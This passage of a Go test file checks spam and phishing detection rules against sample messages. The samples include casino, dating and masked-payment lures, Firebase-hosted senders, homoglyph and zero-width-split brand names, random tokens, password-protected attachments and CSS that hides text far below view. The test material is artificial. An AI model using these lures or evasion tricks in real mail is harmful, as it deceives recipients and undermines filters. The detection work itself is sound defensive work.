		{`Nagelpilz-Service,(<noreply@dhl.de>)`, true},
		{`Instant Translator (<info@translate.example>)`, true},
		{`(<service@shop.example>)`, true},
		{`"a@b.example" (<noreply@digid.example>)`, true},
		{`user@example.com (Full Name <user@example.com>)`, false},
		{`"Doe, John" <john@example.com>`, false},
		{`John Doe (Sales) <john@example.com>`, false},
		{`Sales Team (Berlin office)`, false},
		{`"ops@example.com" <alerts@example.com> (<x@y.example>)`, false},
		{`Shop <info@shop.example>`, false},
	})
}

// PST_FROM_FIREBASE: an address on Firebase's shared domains, not one that
// only names Firebase.
func TestDefaultFromFirebase(t *testing.T) {
	ruleCases(t, "PST_FROM_FIREBASE", fromMsg, []ruleCase{
		{`Prestige Casino <noreply@acc9-f1a4c.firebaseapp.com>`, true},
		{`MetaMask <NoReply@TwoFFFA.FirebaseApp.com>`, true},
		{`App <noreply@myapp.web.app>`, true},
		{`Firebase <firebase-noreply@google.com>`, false},
		{`Shop <noreply@firebaseapp.com.example>`, false},
		{`Blog <news@myfirebaseapp.com>`, false},
	})
}

// PST_FIREBASE_NO_ACTION: Firebase's mail without the action link its every
// real message carries, Firebase's own or the app's handler's.
func TestDefaultFirebaseNoAction(t *testing.T) {
	const fb = `Prestige <noreply@acc9-f1a4c.firebaseapp.com>`
	plainCases(t, "PST_FIREBASE_NO_ACTION", []plainCase{
		{from: fb, subject: "Deine 200 Freispiele warten", body: "Jetzt spielen: https://spin.example/go?id=7", hit: true},
		{from: `App <noreply@myapp.web.app>`, subject: "Sie haben 1.000 EUR erhalten", hit: true},
		{from: fb, subject: "Reset your password for Prestige", body: "Follow this link to reset your password:\nhttps://acc9-f1a4c.firebaseapp.com/__/auth/action?mode=resetPassword&oobCode=Xy7_kQ&apiKey=AIza&lang=en"},
		{from: fb, subject: "Verify your email for Prestige", body: "https://app.example/auth?mode=verifyEmail&oobCode=Xy7_kQ&apiKey=AIza"},
		{from: fb, subject: "Sign in to Prestige", body: "https://acc9-f1a4c.firebaseapp.com/__/auth/links?link=https://acc9-f1a4c.firebaseapp.com/__/auth/action?apiKey%3DAIza%26mode%3DsignIn%26oobCode%3DXy7_kQ"},
		{from: `Shop <news@shop.example>`, subject: "Deine 200 Freispiele", body: "https://spin.example/go"},
	})
}

// PST_CASINO_SPINS: free spins with a casino's bonus or deposit, in the
// campaigns' languages, in the subject or the text; spins of other kinds, and
// bonuses without spins, are not.
func TestDefaultCasinoSpins(t *testing.T) {
	plainCases(t, "PST_CASINO_SPINS", []plainCase{
		{"", "Deine 200 Freispiele warten auf dich!", "Jetzt Bonus sichern.", true},
		{"", "Offre spéciale", "10 000 € + 525 tours gratuits, sans dépôt !", true},
		{"", "Welcome", "Claim 300 FREE SPINS - no deposit required at Golden Casino", true},
		{"", "Bienvenido", "100 giros gratis con tu primer depósito", true},
		{"", "Einladung", "Exklusiver Bonus: 250 € + 200 Gratisdrehs im SpinsCastle Casino", true},
		{"", "Free-spins inside", "Your jackpot awaits.", true},
		{"", "Check your account", "Posido welcome pack $4,000 bonus + 150 FS", true},
		{"", "Hit N Spin", "Unser Willkommensbonus von bis zu 800 EUR + 200 FS ist nur der Anfang.", true},
		{"", "Backup", "Mounted 200 FS volumes; the bonus disk is free.", false},
		{"", "Release notes", "The disk spins down after ten minutes; the bonus feature is free.", false},
		{"", "Annual review", "Your bonus and the deposit into your pension.", false},
		{"", "Game night", "Each player gets two free spins of the wheel.", false},
	})
}

// PST_CASINO_MATCH: a deposit matched by a percentage up to an amount, beside a
// casino's words; a shop's percentage off, or a casino named without such an
// offer, is not.
func TestDefaultCasinoMatch(t *testing.T) {
	ruleCases(t, "PST_CASINO_MATCH", bodyMsg, []ruleCase{
		{"Asino Casino: mit 100% bis zu 700€ + 200 Freispielen starten!", true},
		{"Casper Bets 500% up to C$4,500 +500 Free Spins", true},
		{"Ervaar de ultieme welkomstboost: 200% tot € 1000 + 200 gratis Spins", true},
		{"WILLKOMMENSBONUS 100% BONUS bis zu €500 +200 FREISPIELE", true},
		{"Start with a 400% Bonus up to €2,000 on the new slots", true},
		{"SpinsCastle Casino: Ihren 150 % Willkommensbonus von bis zu 250 €", true},
		{"Spring sale: 20% off, up to $50 on every order.", false},
		{"Save 20% up to $50 on garden furniture.", false},
		{"The casino reopened after the renovation, 30 years after it was built.", false},
		{"Your cashback bonus: 5% up to $1,500 a quarter on groceries.", false},
	})
}

// PST_DATING_SPAM: women or singles near the reader, or Eastern European
// singles, as the dating ads write; a news story about women, or a match named
// to a member, is not.
func TestDefaultDatingSpam(t *testing.T) {
	plainCases(t, "PST_DATING_SPAM", []plainCase{
		{"", "Sophia versucht, Sie zu kontaktieren", "WILLST DU FRAUEN IN DEINER NÄHE TREFFEN?", true},
		{"", "Stoute meiden bij jou in de buurt op zoek naar seks", "", true},
		{"", "Meet your kind of singles near you", "", true},
		{"", "Treffen Sie heiße ukrainische Singles - Siehe Fotos!", "", true},
		{"", "Nieuw bericht", "Begin je nieuwe liefdesavontuur met deze prachtige Slavische vrouwen!", true},
		{"", "Charming Russian Girls Are Waiting for you!", "", true},
		{"", "Conference", "Women in your field of research are invited to apply for the grant.", false},
		{"", "News", "The Russian women's team won the relay in Oslo.", false},
		{"", "Protest", "Ukrainian women marched in Kyiv on Sunday.", false},
		{"", "New match", "Anna liked your profile. Say hello!", false},
	})
}

// PST_MASKED_AMOUNT: a sum with its figures masked, in the Subject or the
// text; a masked card number, or a sum written out, is not.
func TestDefaultMaskedAmount(t *testing.T) {
	plainCases(t, "PST_MASKED_AMOUNT", []plainCase{
		{"", "Sie haben €_,_____ auf Ihr Konto erhalten. Bitte bestätigen Sie", "", true},
		{"", "Votre solde", "Nous rencontrons une difficulté concernant le versement de votre montant de ****,**€ sur votre compte.", true},
		{"", "Withdrawal error", "/AMOUNT: **** USD/ You need to add a withdrawal address.", true},
		{"", "Payment", "A payment of $**.** is waiting for you.", true},
		{"", "Card", "Your card ending ****1234 was charged €12,50.", false},
		{"", "Invoice", "Total: €1.250,00 (VAT included).", false},
		{"", "Markdown", "Use **bold** and __underline__ for emphasis.", false},
	})
}

// PST_STOCK_TOUT: a touting disclosure beside an over-the-counter listing or a
// ticker; either alone (an adviser's disclaimer, a market report) is not.
func TestDefaultStockTout(t *testing.T) {
	plainCases(t, "PST_STOCK_TOUT", []plainCase{
		{"", "Hot pick", "Symbol: IBXG. This profile was a paid advertisement: IBXG has paid Market Watch Corporation $3,500 for this advertisement.", true},
		{"", "Breakout alert", "OTCBB: CBYI. We are NOT a registered investment advisor or a broker dealer.", true},
		{"", "Watch list", "Trading on the Pink Sheets. The publisher has been compensated 50,000 shares for this report.", true},
		{"", "Blog", "I am not a registered investment advisor; these are my own notes on index funds.", false},
		{"", "Market wrap", "OTC Markets Group reported higher volumes; the ticker symbol of the index is OTCM.", false},
	})
}

// PST_KIT_REMOVE_FOOTER: the mailing kit's "our emails list" footer; a list
// service's own unsubscribe line is not.
func TestDefaultKitRemoveFooter(t *testing.T) {
	ruleCases(t, "PST_KIT_REMOVE_FOOTER", bodyMsg, []ruleCase{
		{"Unsubscribe click here to remove yourself from our emails list", true},
		{"Click here to remove yourself from our e-mails list.", true},
		{"To unsubscribe from this list, click here.", false},
		{"You can remove yourself from our mailing list at any time.", false},
	})
}

// PST_HEALTH_PLAN_PITCH: a cheaper health plan offered with a price table or
// a quote; an insurer's notice about its member's own plan is not.
func TestDefaultHealthPlanPitch(t *testing.T) {
	plainCases(t, "PST_HEALTH_PLAN_PITCH", []plainCase{
		{"", "Rodrigo temos uma proposta exclusiva esperando você", "Reduza o custo do seu plano de saúde e melhore a rede de atendimento.", true},
		{"", "Tabela Promocional Amil 2024 *ATUALIZADA*", "Cote online um plano de saúde que cabe no seu bolso.", true},
		{"", "Novidades", "Insatisfeito(a) com a rede e/ou preço do seu Plano de Saúde? Aproveite a campanha promocional.", true},
		{"", "Seu boleto", "O boleto do seu plano de saúde está disponível no aplicativo.", false},
		{"", "Carteirinha", "A carteirinha digital do seu plano de saúde foi atualizada.", false},
	})
}

// PST_MIXED_SCRIPT_HDR: a word of the Subject or the From's name in two
// alphabets; text in one alphabet beside another's words is not.
func TestDefaultMixedScript(t *testing.T) {
	plainCases(t, "PST_MIXED_SCRIPT_HDR", []plainCase{
		{"\"MetaМask\" <support@wallet.example>", "Notice", "", true},                   // Cyrillic М
		{"Wallet <support@wallet.example>", "Yоur cryptо hаs bееn suspended", "", true}, // Cyrillic о, а, е
		{"=?UTF-8?B?zpxldGFtYXNr?= <x@y.example>", "Notice", "", true},                  // Greek Μ, encoded
		{"Алексей Иванов <alexey@example.ru>", "Заказ для iPhone 15", "", false},
		{"Γιώργος <g@example.gr>", "Re: ΑΒΓ project, phase 2", "", false},
		{"Lab <lab@example.com>", "Dose: 50 µg, 3 µm filter", "", false},
		{"Müller <m@example.de>", "Grüße aus Köln", "", false},
		{"\"Т\ufeffr\ufeffu\ufeffѕ\ufefft\" <a@example.com>", "Notice", "", true}, // Cyrillic Т and ѕ, split by BOMs
		{"Aܿmܿaܿzܿoܿn <a@example.com>", "Notice", "", true},                       // Syriac marks on Latin letters
		{"Cafe <a@example.com>", "Cafe\u0301 de Paris", "", false},                // a decomposed é
		{"Shop <a@example.in>", "iPhoneके लिए ऑफ़र", "", false},                   // Devanagari's marks on its own letters
		{"Dan <d@example.org>", "Shalom שָׁלוֹם", "", false},
		{"Parts <p@example.com>", "Resistors 10kΩ and 4.7kΩ in stock", "", false}, // Ω looks like no Latin letter
		{"Lab <l@example.com>", "On λ-calculus and βeta reduction", "", false},
	})
}

// PST_MIXED_SCRIPT_BODY: three words of the text or more in two alphabets;
// two are not, nor text in one alphabet beside another's, nor units in Greek.
func TestDefaultMixedScriptBody(t *testing.T) {
	ruleCases(t, "PST_MIXED_SCRIPT_BODY", bodyMsg, []ruleCase{
		{"Hi Gоod аfterпоon. Lоg іn to your acсоuпt.", true},              // Cyrillic о, а, п, і, с
		{"Your Αccount is Οn hold: νerify now", true},                     // Greek Α, Ο, ν
		{"Gоod аfterпоon.\n\nPlease read on.\n\nYour acсоuпt.", true},     // across paragraphs
		{"Hi Gоod afternoon. Log in to your acсоuпt.", false},             // two
		{"Привет! Новый iPhone 15 уже в продаже, и MacBook тоже.", false}, // each word one alphabet
		{"Use 10kΩ, 4.7kΩ and 100kΩ resistors; C = 10µF.", false},         // units
		{"Γειά σου, see the ΑΒΓ project page.", false},
	})
}

// mixedScriptWords counts words, not letters: three mixed letters in one word
// are one word.
func TestMixedScriptWords(t *testing.T) {
	for _, tc := range []struct {
		s    string
		n    int
		want bool
	}{
		{"асcоunt", 1, true},
		{"асcоunt", 2, false},
		{"асcоunt lоgin", 2, true},
		{"асcоunt, lоgin; vеrify", 3, true},
		{"асcоunt\u200bаcc lоgin", 3, false}, // a zero-width space joins a word
		{"plain ascii words", 1, false},
	} {
		if got := mixedScriptWords(tc.s, tc.n); got != tc.want {
			t.Errorf("mixedScriptWords(%q, %d) = %v, want %v", tc.s, tc.n, got, tc.want)
		}
	}
}

// PST_SPLIT_WORD: letters split by characters that show nothing; a soft
// hyphen's syllables, emoji's and Persian's joiners are not.
func TestDefaultSplitWord(t *testing.T) {
	ruleCases(t, "PST_SPLIT_WORD", fromMsg, []ruleCase{
		{"\" d\u034fo\u034fn\u034fo\u034ft\u034fr\u034fe\u034fp\u034fl\u034fy\u034f@e\u034fv\u034fr\u034fi\u034f.com\" <a@example.com>", true},
		{"Donna Reply <a@example.com>", false},
	})
	ruleCases(t, "PST_SPLIT_WORD", bodyMsg, []ruleCase{
		{"Your P\u200ca\u200cy\u200cP\u200ca\u200cl account", true},
		{"A\u00adm\u00ada\u00adz\u00adon", true},
		{"Aܿmܿaܿzܿoܿn.com", true},
		{"H\u200b\u200be\u200bl\u200blo", true},
		{"Ver\u00adsand\u00adkos\u00adten ent\u00adfal\u00adlen", false},
		{"a\u00adb\u00adc", false},
		{"Our family 👨\u200d👩\u200d👧 says hi", false},
		{"می\u200cخواهم", false},
	})
}

// PST_RANDOM_TOKEN_HDR: a random code of mixed case and digits in the Subject
// or the From's name, as a campaign makes each copy differ; names in
// CamelCase, references in capitals and digits, and ids mostly of digits are
// not.
func TestDefaultRandomToken(t *testing.T) {
	plainCases(t, "PST_RANDOM_TOKEN_HDR", []plainCase{
		{subject: "Notificacao de Credito-maHSkh0WLRUIpDf6t", hit: true},
		{subject: "Atencao Itau - fg46qFdZiRVH3jI", hit: true},
		{from: "Nubank - Bloqueio por fraudeKApsBkI1G5 <a@example.com>", subject: "Aviso", hit: true},
		{subject: "Protocolo: o4M278sTaWC4WO3"}, // more digits than half its letters
		{subject: "PowerShell2Go and iPhone15ProMax reviewed"},
		{subject: "Your parcel 1Z999AA10123456784 is on its way"},
		{subject: "Case 00012345 ref:_00D7F000001bXyZ._5007F00000HsQ2w:ref"},
		{subject: "GHSclassof1977 reunion"},
		{subject: "Watch dQw4w9WgXcQ again"},
		{subject: "Passcode 8fG3kQ for the call"},
	})
}

// PST_RANDOM_TOKEN_FILE: the code as an attachment's name, plain or encoded;
// the names people and machines give are not.
func TestDefaultRandomTokenFile(t *testing.T) {
	msg := func(t *testing.T, disposition string) *filter.Message {
		return msgOf(t, "From: a@example.com\nSubject: documento\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\nsee attached\n--b\n"+
			"Content-Type: application/pdf\n"+disposition+"\nContent-Transfer-Encoding: base64\n\nJVBERi0xLjQK\n--b--\n")
	}
	ruleCases(t, "PST_RANDOM_TOKEN_FILE", msg, []ruleCase{
		{`Content-Disposition: attachment; filename="UlcxS1fOWbE7h9.pdf"`, true},
		{`Content-Disposition: attachment; filename="Comunicado_bb_o4M278sTaWC4WO3hAHIkBCu0Z.pdf"`, true},
		{"Content-Disposition: attachment; filename*=UTF-8''Fatura%200b1PVfyREvJhmkkg.pdf", true},
		{`Content-Disposition: attachment; filename="Invoice_INV-2024-0001.pdf"`, false},
		{`Content-Disposition: attachment; filename="IMG_20240101_123456.jpg"`, false},
		{`Content-Disposition: attachment; filename="5F2A1C3B-9D4E-4A7B-8C1D-2E3F4A5B6C7D.pdf"`, false},
		{`Content-Disposition: attachment; filename="3f9c2e18b7d4e6fa0c1d.pdf"`, false},
		{`Content-Disposition: attachment; filename="QuarterlyReport2024Final.pdf"`, false},
		{`Content-Disposition: attachment; filename="Scan0001.pdf"`, false},
	})
	// The code in the text is no attachment's name.
	s := defaultSet(t)
	wantHit(t, s, bodyMsg(t, "Your file UlcxS1fOWbE7h9.pdf is ready."), "PST_RANDOM_TOKEN_FILE", false)
}

// PST_ENCRYPTED_WITH_KEY: an encrypted PDF or ZIP attachment whose password
// the message gives, in the lures' languages; not the password alone, not
// the encrypted file alone, and not a mention of a password that gives none.
func TestDefaultEncryptedWithKey(t *testing.T) {
	encPDF := base64.StdEncoding.EncodeToString([]byte("%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R /Encrypt 2 0 R >>\n"))
	plainPDF := base64.StdEncoding.EncodeToString([]byte("%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n"))
	encZip := base64.StdEncoding.EncodeToString([]byte("PK\x03\x04\x14\x00\x01\x00\x08\x00"))
	msgWith := func(file, ctype string) func(*testing.T, string) *filter.Message {
		return func(t *testing.T, body string) *filter.Message {
			return msgOf(t, "From: a@example.com\nSubject: documento\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain; charset=utf-8\n\n"+body+
				"\n--b\nContent-Type: "+ctype+"\nContent-Transfer-Encoding: base64\n\n"+file+"\n--b--\n")
		}
	}
	ruleCases(t, "PST_ENCRYPTED_WITH_KEY", msgWith(encPDF, "application/pdf"), []ruleCase{
		{"Segue o comprovante. Senha de acesso ao PDF: 123", true},
		{"Senha do Arquivo em Anexo: 123", true},
		{"Please find the invoice attached. The password is 2024.", true},
		{"Passwort: Rechnung24", true},
		{"Le mot de passe est « 4512 »", true},
		{"Find your statement attached. Its password is your date of birth.", false},
		{"Your statement is attached.", false},
		{"Never share your password with anyone.", false},
	})
	ruleCases(t, "PST_ENCRYPTED_WITH_KEY", msgWith(encZip, "application/zip"), []ruleCase{
		{"Invoice attached, password: 7781", true},
		{"Invoice attached.", false},
	})
	ruleCases(t, "PST_ENCRYPTED_WITH_KEY", msgWith(plainPDF, "application/pdf"), []ruleCase{
		{"Senha de acesso ao PDF: 123", false},
	})
}

// randomToken's thresholds, each case one side of one of them.
func TestRandomToken(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want bool
	}{
		{"fg46qFdZiRVH3jI", true},
		{"f4gQ6hRTkW", true},     // ten: long enough
		{"f4gQ6hRTk", false},     // nine
		{"f4gQxhRTkW", false},    // one digit
		{"f4gq6hR7kT8w", false},  // two capitals
		{"F4GQ6hRTkW", false},    // two small letters
		{"f4g5Q6h7R8TkW", false}, // letters fewer than twice the digits
		{"fghQRT46kW", false},    // four changes of kind
		{"f4gQa6hRkWx", false},   // every capital followed by a small letter
		{"f4gQ6-hRTkW", false},   // two runs, each short
		{"Ümlaut f4gQ6hRTkW", true},
	} {
		if got := randomToken(tc.in); got != tc.want {
			t.Errorf("randomToken(%q) = %v, want %v", tc.in, got, tc.want)
		}
	}
}

// mixedCaseLocal's thresholds, each case one side of one of them.
func TestMixedCaseLocal(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want bool
	}{
		{"fdDcYbGtHMjwnIr", true},
		{"exXmY", true},                  // five: long enough
		{"xXmY", false},                  // four
		{"exXmYexXmYexXmYexXmYx", false}, // twenty-one
		{"exXmy", false},                 // one hump
		{"ExxMYy", false},                // one small letter before a capital
		{"DoNotUse", false},              // every capital followed by a small letter
		{"eXXMY", false},                 // one small letter
		{"ex.XmY", false},                // not letters only
		{"exXm4Y", false},                // a digit
		{"john", false},
	} {
		if got := mixedCaseLocal(tc.in); got != tc.want {
			t.Errorf("mixedCaseLocal(%q) = %v, want %v", tc.in, got, tc.want)
		}
	}
}

// PST_FROM_RANDOM_LOCAL: an address's local part in random case, under a name
// it has nothing of; a person's initials under their name, a bare address and
// a plain one are not.
func TestDefaultFromRandomLocal(t *testing.T) {
	ruleCases(t, "PST_FROM_RANDOM_LOCAL", fromMsg, []ruleCase{
		{`"Fidelity Life Quote" <fdDcYbGtHMjwnIr@eaux.smedialy.example>`, true},
		{`"Auto Quote Helper" <vXSKroA@pier.socialbl.example>`, true},
		{`Tom McDonald <TomMcD@example.com>`, false},
		{`TomMcD@example.com`, false},
		{`"Fidelity Life Quote" <quotes@fidelitylife.example>`, false},
		{`"Do not reply" <DoNotUse@example.com>`, false},
	})
}

// personaLocal's conditions, each case one side of one of them.
func TestPersonaLocal(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want bool
	}{
		{"Hartness_Lacy_95443", true},
		{"ximenes_tabbernor_98874", true},
		{"Cooke_Maxine_8135", true},
		{"Williams_Lacie_202", true},       // three digits
		{"Williams_Lacie_20", false},       // two
		{"Williams_Lacie_2021234", false},  // seven
		{"Williams_Lacie", false},          // no number
		{"Williams_Lacie_20a2", false},     // not digits only
		{"W_Lacie_2021", false},            // a word of one letter
		{"Wil3iams_Lacie_2021", false},     // not letters only
		{"Williams.Lacie.2021", false},     // dots
		{"Williams_Lacie_Ann_2021", false}, // three words
		{"Jöns_Lacie_2021", false},         // not ASCII
	} {
		if got := personaLocal(tc.in); got != tc.want {
			t.Errorf("personaLocal(%q) = %v, want %v", tc.in, got, tc.want)
		}
	}
}

// nameHolds: three letters in a row of the local part, in the name, case
// aside; digits and underscores are no part of a name, and without a name
// there is nothing to compare.
func TestNameHolds(t *testing.T) {
	for _, tc := range []struct {
		name, local string
		want        bool
	}{
		{"Tom McDonald", "TomMcD", true},
		{"Jane Doe", "jane_doe_1985", true},
		{"", "Hartness_Lacy_95443", true},
		{"Audien Atom 2", "Hartness_Lacy_95443", false},
		{"Studio 954", "Hartness_Lacy_95443", false}, // digits only in common
		{"Fidelity Life Quote", "fdDcYbGtHMjwnIr", false},
	} {
		if got := nameHolds(tc.name, tc.local); got != tc.want {
			t.Errorf("nameHolds(%q, %q) = %v, want %v", tc.name, tc.local, got, tc.want)
		}
	}
}

// PST_FROM_PERSONA_LOCAL: a made-up person's address under a name it has
// nothing of; a person's own under their name, and a bare one, are not.
func TestDefaultFromPersonaLocal(t *testing.T) {
	ruleCases(t, "PST_FROM_PERSONA_LOCAL", fromMsg, []ruleCase{
		{`Audien Atom 2 <Hartness_Lacy_95443@kolo46.tlfaza.example>`, true},
		{`IPhone 16 Pro <ximenes_tabbernor_98874@vargas.tchalala.example>`, true},
		{`Jane Doe <jane_doe_1985@mail.example>`, false},
		{`jane_doe_1985@mail.example`, false},
		{`Sunset Bakery <orders@sunset.example>`, false},
	})
}

// PST_HTML_FAR_BELOW: text pushed thousands of screens below the rest; a
// bound, a negative offset, a long page and a full screen are not.
func TestDefaultHTMLFarBelow(t *testing.T) {
	ruleCases(t, "PST_HTML_FAR_BELOW", htmlMsg, []ruleCase{
		{`<style>.belowView { margin-top: 470500px; }</style><p>Save now</p><div class="belowView">a novel's page</div>`, true},
		{`<style>.wrapper { display: flex; height: 10000vh; }</style><div class="wrapper">x</div>`, true},
		{`<span style="display:block; height: 15000px;"></span><p>filler</p>`, true},
		{`<div style="padding-bottom:20000px">Save now</div>`, true},
		{`<div style="min-height:12000px">Save now</div>`, true},
		{`<table><tr><td style="max-height: 99999px; mso-hide: all">mobile only</td></tr></table>`, false},
		{`<div style="position:absolute; top:-99999px; left:-99999px">preheader</div>`, false},
		{`<div style="display:block; width:640px; height:1293px; background:url(x.png)">`, false},
		{`<div style="height: 100vh">Welcome</div>`, false},
		{`<p style="margin-top: 9999px">far</p>`, false},
	})
}

// farBelow's conditions, each case one side of one of them (its input is
// lower-cased, as the rawbody it reads).
func TestFarBelow(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want bool
	}{
		{".x { margin-top: 470500px; }", true},
		{"{width: 600px; margin-top: 470500px}", true}, // after another length
		{".x { margin-top: 9999px; }", false},          // four digits
		{"<span style=\"height:15000px\">", true},      // after a quote
		{"height:10000px", true},                       // at the start
		{"{min-height : 12000.5px}", true},             // a fraction, spaces
		{"{height: 1.12000px}", false},                 // a fraction's digits
		{"{max-height: 99999px}", false},               // a bound
		{"{line-height: 99999px}", false},              // another property
		{"{top: 99999px}", false},                      // an offset
		{"{margin-top: -99999px}", false},              // negative
		{"{padding-bottom:20000px}", true},             // padding
		{"{margin-left: 20000px}", false},              // sideways
		{"{height 20000px}", false},                    // no colon
		{"<td height= 20000px>", false},                // an attribute
		{"{margin: 0 0 470500px 0}", false},            // a shorthand's later value
		{".w { height: 10000vh }", true},               // screens
		{".w { height: 999vh }", false},                // three digits
		{".w { margin-top: 5000vh }", false},           // screens measure heights only
		{"12px 14px 1.5px 20000 px", false},            // units without a length
		{"a 10000px long line, height: 20px", false},   // the length of no property
	} {
		if got := farBelow(tc.in); got != tc.want {
			t.Errorf("farBelow(%q) = %v, want %v", tc.in, got, tc.want)
		}
	}
}

// PST_FREEMAIL_REF_NAME: a reference number in a free mailbox's name; the
// same name from a company's domain, a mailbox's own name with its digits, a
// year, and a short number with or without a reference's word are not.
func TestDefaultFreemailRefName(t *testing.T) {
	ruleCases(t, "PST_FREEMAIL_REF_NAME", fromMsg, []ruleCase{
		{`Your Order #865999 <gersidemiriey@gmail.com>`, true},
		{`"AVISO DE COMPRA - 4028389522" <jonathan647@gmail.com>`, true},
		{`"Time NU. Protocolo:7164942633959263" <gustavo@gmail.com>`, true},
		{`167634427618 <sset79553@hotmail.com>`, true},
		{`"Your Order # 5353" <alfred@outlook.com>`, true},
		{`"[BB] - Comunicado ao cliente - Cod.  371" <ralph@gmail.com>`, true},
		{`Your Order #865999 <orders@shop.example>`, false},
		{`john12345 <john12345@gmail.com>`, false},
		{`"Class of 2019" <alumni.group@gmail.com>`, false},
		{`"Room 101" <ann@gmail.com>`, false},
		{`"Ticket 2 Ride" <ticket2ride@gmail.com>`, false},
	})
}

// PST_CLAIMS_NOT_SPAM: a message's own denial that it is spam; a person's view
// of another message, and a list's account of the reader's sign-up, are not.
func TestDefaultClaimsNotSpam(t *testing.T) {
	ruleCases(t, "PST_CLAIMS_NOT_SPAM", bodyMsg, []ruleCase{
		{"Note: This is NOT SPAM!! This is NOT Unsolicited Email!!", true},
		{"Errors, omissions, and exceptions excluded. This is NOT spam! I have compiled this list.", true},
		{"This email is not unsolicited. You signed up at our partner site.", true},
		{"This is not unsolicited mail: you opted in.", true},
		{"Click Here\n\nThis is NOT SPAM - You have received this e-mail because you joined.", true},
		{"I know this is NOT spam, it came from our vendor.", false},
		{"You are receiving this because you subscribed at example.com.", false},
		{"Is this spam? Nobody on the list could tell.", false},
	})
}

// PST_BILL_1618: the citation of S. 1618 or H.R. 4176 as leave to send; other
// bills and numbers are not.
func TestDefaultBill1618(t *testing.T) {
	ruleCases(t, "PST_BILL_1618", bodyMsg, []ruleCase{
		{"Under Bill s.1618 Title III passed by the 105th U. S. Congress this mail cannot be considered spam.", true},
		{`Per Section 301, Paragraph (a)(2)(C) of S. 1618, further transmissions may be stopped.`, true},
		{"Under Bill(s) 1618 TITLE III by the 105 US Congress.", true},
		{"This message complies with H.R. 4176 SECTION 101.", true},
		{"Sent in compliance with S.1618.", true},
		{"per section 301, Paragraph (a)(2)(C)", true},
		{"Order 1618 has shipped; Section 3 of the terms applies.", false},
		{"Senate Bill 1620 was debated on Tuesday.", false},
	})
}

// PST_FROM_NAME_CODE: a code set off by a dot at the end of the sender's name;
// a name's own dots, which follow its words, and ".NET" are not one.
func TestDefaultFromNameCode(t *testing.T) {
	ruleCases(t, "PST_FROM_NAME_CODE", fromMsg, []ruleCase{
		{`"Energieadviseur"  .NTWQ  <newsletters.mYLY@amfex.example>`, true},
		{`_EnergieNL...QaGv    <newsletters.IrrKU@mail-serve.example>`, true},
		{"Nationaal Thuisbatterij Advies Serviceteam\t...apAs   <newsletters.PJiYH@mail-serve.example>", true},
		{`"-Albert-Heijn Cadeaucentrum!." .SCIVI <newsletters.AwCVe@example.com>`, true},
		{`"Smith J." <j.smith@example.com>`, false},
		{`"Acme Widgets Inc." <sales@acme.example>`, false},
		{`"Ann B. Jones" <ann@example.com>`, false},
		{`"Sales J.Smith" <j.smith@example.com>`, false},
		{`"Visual Studio .NET" <vs@example.com>`, false},
		{`"Energieadviseur" <info@energie.example>`, false},
	})
}

// PST_SUBJ_HASH_TAG: a code at the Subject's end that makes each copy
// differ; a reference beside what it names, a word after a gap, a list's tag
// and an abbreviation's period are not one.
func TestDefaultSubjectTag(t *testing.T) {
	plainCases(t, "PST_SUBJ_HASH_TAG", []plainCase{
		{subject: "Call me                    34472", hit: true},
		{subject: "Improved Health                  JBTFCZ", hit: true},
		{subject: "Something EVERY Business Needs! [wxv4m]", hit: true},
		{subject: "ADV: Interest rates are DOWN!! ntbri", hit: true},
		{subject: "Your order 34472 has shipped"},
		{subject: "Meeting notes     Monday"},
		{subject: "[ILUG] expanding a string multiple times"},
		{subject: "Re: ipfw vs. iptables"},
	})
}

// hashTag's conditions, each case one side of one of them.
func TestHashTag(t *testing.T) {
	for _, tc := range []struct {
		in   string
		want bool
	}{
		{"Save now   12678", true},
		{"Save now  12678", false},          // two spaces: a typing slip
		{"Save now \t 097-3", true},         // tabs count; digits and a hyphen
		{"Save now   -", false},             // no digit, no letter
		{"Save now   XDKOR", true},          // one case
		{"Save now   gjannsxrwg", true},     // one case
		{"Save now   Monday", false},        // a capitalized word
		{"Save now   [c2971]", true},        // bracketed
		{"Save now   1234567890123", false}, // longer than twelve
		{"                 12678", false},   // nothing before it
		{"Financial Opportunity [6bftc]", true},
		{"Financial Opportunity [jdnhd]", true},  // no vowel
		{"Financial Opportunity [draft]", false}, // a word
		{"Financial Opportunity [rc1]", false},   // three
		{"Financial Opportunity [v2.1.0]", false},
		{"Financial Opportunity [6BFTC]", false}, // capitals: a list's tag
		{"Order [20240]", false},                 // digits alone
		{"Offer [abcdefgh12]", false},            // more than eight
		{"Save Money! Refinance Now!!! szfdk", true},
		{"Mortgage Rates Are Down.  teoqknmp", true}, // four consonants
		{"Look Younger-FREE SAMPLE ! lwl", true},     // no vowel
		{"Free for you... xwczh", false},             // after an ellipsis
		{"Rates are down xwczh", false},              // no sentence's end
		{"Now! xz", false},                           // two letters
		{"Now! ostrka", true},                        // four consonants in a row
		{"Now! ostra", false},                        // three
		{"integrating actions into the More... menu", false},
		{"Do You Owe Back Taxes? obd", false}, // a vowel, no run of four
		{"Is it done? Yes", false},
		{"Two lines\nCall me                    34472", true}, // a second Subject field
	} {
		if got := hashTag(tc.in); got != tc.want {
			t.Errorf("hashTag(%q) = %v, want %v", tc.in, got, tc.want)
		}
	}
}

// PST_DOC_PC_ONLY: a document said to open only on a Windows computer, or
// only on a desktop or a laptop; not software that runs on Windows, nor a page
// that reads better on a large screen.
func TestDefaultDocPCOnly(t *testing.T) {
	ruleCases(t, "PST_DOC_PC_ONLY", bodyMsg, []ruleCase{
		{"Notice: For security reasons, this statement must be opened on a Windows laptop or desktop computer.", true},
		{"Due to IRS Form 1099-K compliance, this document can only be accessed on a Windows Desktop workstation. Mobile and macOS are not supported.", true},
		{"For document encryption compatibility, these files must be opened using a Windows Desktop environment.", true},
		{"For optimal viewing, please open your statement only on a laptop or personal computer.", true},
		{"Your invoice is attached. It opens in any PDF reader.", false},
		{"The new release of our backup tool runs on a Windows PC or a Mac.", false},
		{"This newsletter reads best on a desktop computer.", false},
		{"The report was written on a laptop during the flight.", false},
		{"Our app can only be installed on a Windows PC for now.", false},
